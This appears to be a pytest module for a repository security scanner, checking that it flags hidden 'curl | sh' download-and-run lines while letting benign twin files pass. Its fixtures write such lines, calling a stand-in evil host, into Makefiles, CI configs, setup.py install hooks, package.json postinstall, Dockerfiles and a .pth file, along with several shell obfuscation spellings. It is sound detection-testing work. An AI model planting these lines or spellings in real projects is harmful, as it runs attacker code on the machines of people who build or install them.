"""Command lines hidden in other formats, Dockerfile downloads and SHELL, and shell spellings,
end to end: the shipped rules and the default policy over a real repository whose series adds
each hostile file next to a benign twin (issue 30, items 6-8).

One scan of the series (the module shares it); the rules under test are the shipped ones."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest
from scancase import scan_series
from support import GitRepo

from auditor.model import Action, Finding, StageResult
from auditor.results.scan import ScanData

PIPE = "https://get.evil.example/i.sh"

# path -> (text, the line text that must block) — each a command line `curl | sh` in its format
HOSTILE: dict[str, tuple[str, str] | str] = {
    "Makefile": ("PY := python3\n\ninstall:\n\t@$(PY) -m pip install -e .\n"
                 f"\t@curl -fsSL {PIPE} | sh\n", "curl -fsSL"),
    "mk/extra.mk": (f"BOOT != wget -qO- {PIPE} | bash\n", "BOOT"),
    "Procfile": ("web: gunicorn app:app\n"
                 f"worker: sh -c 'curl -s {PIPE} | sh'\n", "worker"),
    "deploy/boot.service": ("[Service]\n"
                            f"ExecStartPre=-/bin/sh -c 'curl -s {PIPE} | sh'\n"
                            "ExecStart=/opt/vllm/bin/vllm serve /srv/m --host 127.0.0.1\n",
                            "ExecStartPre"),
    "tox.ini": ("[tox]\nenvlist = py\n\n[testenv]\ndeps = pytest\ncommands =\n    pytest -q\n"
                f"    bash -c \"curl -s {PIPE} | bash\"\n", "bash -c"),
    "deploy/supervisord.conf": ("[program:engine]\n"
                                f"command=/bin/sh -c \"wget -qO- {PIPE} | sh\"\n"
                                "autostart=true\n", "command="),
    ".envrc": f"export A=1\ncurl -s {PIPE} | sh\n",
    "deploy/compose.yaml": ("services:\n  engine:\n    image: python:3.12\n"
                            f"    command: [\"sh\", \"-c\", \"curl -s {PIPE} | sh\"]\n",
                            "command:"),
    ".pre-commit-config.yaml": ("repos:\n  - repo: local\n    hooks:\n      - id: fmt\n"
                                "        name: fmt\n"
                                f"        entry: bash -c 'curl -s {PIPE} | bash'\n"
                                "        language: system\n", "entry:"),
    ".github/workflows/ci.yml": ("on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n"
                                 "    steps:\n      - run: pytest -q\n      - run: |\n"
                                 "          echo setup\n"
                                 f"          curl -sSL {PIPE} | bash\n", "curl -sSL"),
    ".gitlab-ci.yml": ("test:\n  script:\n    - pytest -q\n"
                       f"    - wget -qO- {PIPE} | sh\n", "wget"),
    "setup.py": ("import os\nfrom setuptools import setup\nfrom setuptools.command.install "
                 "import install\n\n\nclass Install(install):\n    def run(self):\n"
                 f"        os.system(\"curl -s {PIPE} | sh\")\n        install.run(self)\n\n\n"
                 "setup(name='x', cmdclass={'install': Install})\n", "os.system"),
    "cmake/hooks.cmake": ("set(FETCH curl)\n"
                          f"execute_process(COMMAND ${{FETCH}} -s {PIPE}\n"
                          "                COMMAND sh)\n", "execute_process"),
    "CMakeLists.txt": ("cmake_minimum_required(VERSION 3.26)\nproject(x)\n"
                       "add_custom_target(boot ALL\n"
                       f"  COMMAND sh -c \"wget -qO- {PIPE} | sh\")\n", "COMMAND sh -c"),
    "web/package.json": ("{\n  \"name\": \"ui\",\n  \"scripts\": {\n"
                         f"    \"postinstall\": \"curl -s {PIPE} | sh\"\n  }}\n}}\n",
                         "postinstall"),
    "tools/pyproject.toml": ("[project]\nname = \"tools\"\n\n[tool.poe.tasks]\n"
                             f"setup = {{shell = \"wget -qO- {PIPE} | sh\"}}\n", "setup ="),
    # item 8: spellings the shell reads as curl | sh
    "scripts/var.sh": f"#!/bin/sh\nc=curl\n$c -s {PIPE} | sh\n",
    "scripts/quotes.sh": f"#!/bin/sh\ncu''rl -s {PIPE} | s''h\n",
    "scripts/escape.sh": f"#!/bin/sh\nc\\url -s {PIPE} | \\sh\n",
    "scripts/ifs.sh": (f"#!/bin/bash\nIFS=_\nget=curl_-s_{PIPE}\n$get|bash\n", "$get|bash"),
    "scripts/eval.sh": f"#!/bin/bash\neval \"cu\"\"rl -s {PIPE} | sh\"\n",
    "scripts/ansi.sh": f"#!/bin/bash\n$'\\x63\\x75\\x72\\x6c' -s {PIPE} | bash\n",
    "scripts/alias.sh": f"#!/bin/bash\nalias get='curl -s'\nget {PIPE} | bash\n",
    "scripts/concat.sh": f"#!/bin/sh\na=cu\nb=rl\n\"$a$b\" -s {PIPE} | sh\n",
    "scripts/echo.sh": f"#!/bin/bash\n$(echo curl) -s {PIPE} | \"$(printf %s ba sh)\"\n",
    "scripts/nested.sh": f"#!/bin/sh\nsh -c 'x=wget; $x -qO- {PIPE} | sh'\n",
    "scripts/default.sh": f"#!/bin/sh\n${{FETCH:-cu''rl}} -s {PIPE} | sh\n",
    "scripts/later.sh": (f"#!/bin/sh\ncurl -fsSL -o /tmp/i.sh {PIPE}\necho ok\nsh /tmp/i.sh\n",
                         "sh /tmp/i.sh"),
    # item 7
    "docker/Dockerfile.add": ("FROM ubuntu:22.04\n"
                              f"ADD {PIPE} /opt/i.sh\n"
                              "RUN chmod +x /opt/i.sh && /opt/i.sh\n", "RUN chmod"),
    "docker/Dockerfile.workdir": ("FROM ubuntu:22.04\nWORKDIR /opt\n"
                                  f"ADD {PIPE} ./\n"
                                  "RUN bash i.sh --yes\n", "RUN bash"),
    "docker/Dockerfile.pyshell": ("FROM python:3.12\nSHELL [\"python3\", \"-c\"]\n"
                                  "RUN import urllib.request as u; "
                                  "exec(u.urlopen('https://get.evil.example/p.py').read())\n",
                                  "exec(u.urlopen"),
    # item 6: a .pth import line
    "vllm_hook.pth": ("/opt/extra/lib\nimport os; os.system('id')\n", "import os"),
    # the same command line started through os's exec/spawn family or the C library
    "tools/relaunch.py": ("import os\n\n\ndef relaunch():\n"
                          f"    os.execl('/bin/sh', 'sh', '-c', 'curl -fsSL {PIPE} | sh')\n"),
    "tools/spawn.py": ("import os\n\n\ndef start():\n"
                       f"    os.spawnv(os.P_NOWAIT, '/bin/sh', ['sh', '-c', 'curl {PIPE} | sh'])\n"),
    "tools/native.py": ("import ctypes\n\n_C = ctypes.CDLL(None)\n\n\ndef start():\n"
                        f"    _C.system(b'curl -fsSL {PIPE} | sh')\n"),
}

# path -> text: twins that must stay quiet (no blocking or reviewed finding but those of
# ALLOWED: a plain download is a network finding in any script, a subprocess call in Python a
# process-exec one, as before)
BENIGN: dict[str, str] = {
    "ok/Makefile": "install:\n\tpython3 -m pip install -e .\n\ntest:\n\tpytest -q\n",
    "ok/Procfile": "web: gunicorn app:app --workers 2\n",
    "ok/tox.ini": "[testenv]\ndeps = pytest\ncommands =\n    pytest -q {posargs}\n",
    "ok/.github/workflows/ci.yml": ("on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n"
                                    "    steps:\n      - uses: actions/checkout@v4\n"
                                    "      - run: |\n          pip install -e .\n"
                                    "          pytest -q\n"),
    "ok/compose.yaml": ("services:\n  web:\n    image: nginx:1.27\n"
                        "    command: [\"nginx\", \"-g\", \"daemon off;\"]\n"),
    "ok/.pre-commit-config.yaml": ("repos:\n  - repo: local\n    hooks:\n      - id: lint\n"
                                   "        name: lint\n        entry: ruff check\n"
                                   "        language: system\n"),
    "ok/paths.pth": "/opt/extra/lib\n# a comment\n./vendor\n",
    "ok/scripts/quoted.sh": "#!/bin/sh\nname='curl'\necho \"the tool is $name\"\n",
    "ok/scripts/verified.sh": ("#!/bin/sh\ncurl -fsSL -o /opt/dl/i.sh https://get.example/i.sh\n"
                               "echo 'a3f0c1e5  /opt/dl/i.sh' | sha256sum -c -\n"
                               "sh /opt/dl/i.sh\n"),
    "ok/docker/Dockerfile": ("FROM ubuntu:22.04\n"
                             "ADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869"
                             "a9b2945d1036d1dc68d https://get.example/i.sh /opt/i.sh\n"
                             "RUN sh /opt/i.sh\n"
                             "SHELL [\"/bin/bash\", \"-o\", \"pipefail\", \"-c\"]\n"
                             "RUN echo hi | tee /opt/x\n"),
    "ok/docker/Dockerfile.python": ("FROM python:3.12\nSHELL [\"python3\", \"-c\"]\n"
                                "RUN print('hello')\n"),
    "ok/setup.py": ("import subprocess\nfrom setuptools import setup\n\n"
                    "subprocess.check_call(['git', 'submodule', 'update', '--init'])\n"
                    "setup(name='ok')\n"),
}


ALLOWED = {"ok/scripts/verified.sh": {("network.shell.download", 2)},
           "ok/setup.py": {("process-exec.python.subprocess", 4)},
           # a base image pinned by a tag, not a digest, is reviewed (issue 29 item 1)
           "ok/docker/Dockerfile": {("dependency.builtin.image-unpinned", 1)},
           "ok/docker/Dockerfile.python": {("dependency.builtin.image-unpinned", 1)}}


@dataclass
class Case:
    repo: GitRepo
    bundle: Path
    commits: list[str]
    result: StageResult


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Case:
    files = {p: (v[0] if isinstance(v, tuple) else v) for p, v in HOSTILE.items()}
    run = scan_series(tmp_path_factory.mktemp("cmdlines"), [
        ("build and launch files", files), ("benign twins", BENIGN)])
    return Case(run.repo, run.bundle, run.commits, run.result)


def _line(text: str, needle: str) -> int:
    return next(n for n, ln in enumerate(text.split("\n"), 1) if needle in ln)


def _at(result: StageResult, path: str) -> list[Finding]:
    return [f for f in result.findings if f.path == path]


def _show(fs: list[Finding]) -> list[tuple[str, int, str]]:
    return [(f.rule, f.line, f.action.value) for f in fs]


@pytest.mark.parametrize("path", sorted(HOSTILE))
def test_a_command_line_in_any_format_blocks(case: Case, path: str) -> None:
    value = HOSTILE[path]
    text, needle = value if isinstance(value, tuple) else (value, PIPE)
    want = _line(text, needle)
    # a .pth import line is process execution: reviewed, not blocked, by the default policy
    wanted = (Action.REVIEW, Action.BLOCK) if path.endswith(".pth") else (Action.BLOCK,)
    found = [f for f in _at(case.result, path) if f.action in wanted and (
        f.line <= want <= (f.end_line or f.line) or f.line == want)]
    assert found, (path, want, _show(_at(case.result, path)))
    assert found[0].commit == case.commits[0]
    assert not [n for n in case.result.not_checked if path in n], case.result.not_checked


def test_pth_import_line_is_its_own_finding(case: Case) -> None:
    rules = {f.rule for f in _at(case.result, "vllm_hook.pth")} | {
        r for f in _at(case.result, "vllm_hook.pth") for r in f.also}
    assert "process-exec.builtin.pth-import" in rules


@pytest.mark.parametrize("path", sorted(BENIGN))
def test_benign_twins_stay_quiet(case: Case, path: str) -> None:
    loud = [f for f in _at(case.result, path) if f.action is not Action.INFO
            and (f.rule, f.line) not in ALLOWED.get(path, set())]
    assert loud == [], _show(loud)
    assert not [n for n in case.result.not_checked if path in n], case.result.not_checked


def test_every_reading_parses(case: Case) -> None:
    """The shell readings and word views are valid shell: semgrep left nothing of them unread
    (a parse failure would be a note, or a reason the scan is incomplete)."""
    data = case.result.data_as(ScanData)
    assert data is not None
    assert data.notes == (), data.notes
    assert case.result.not_checked == ()
    assert data.uncovered == ()
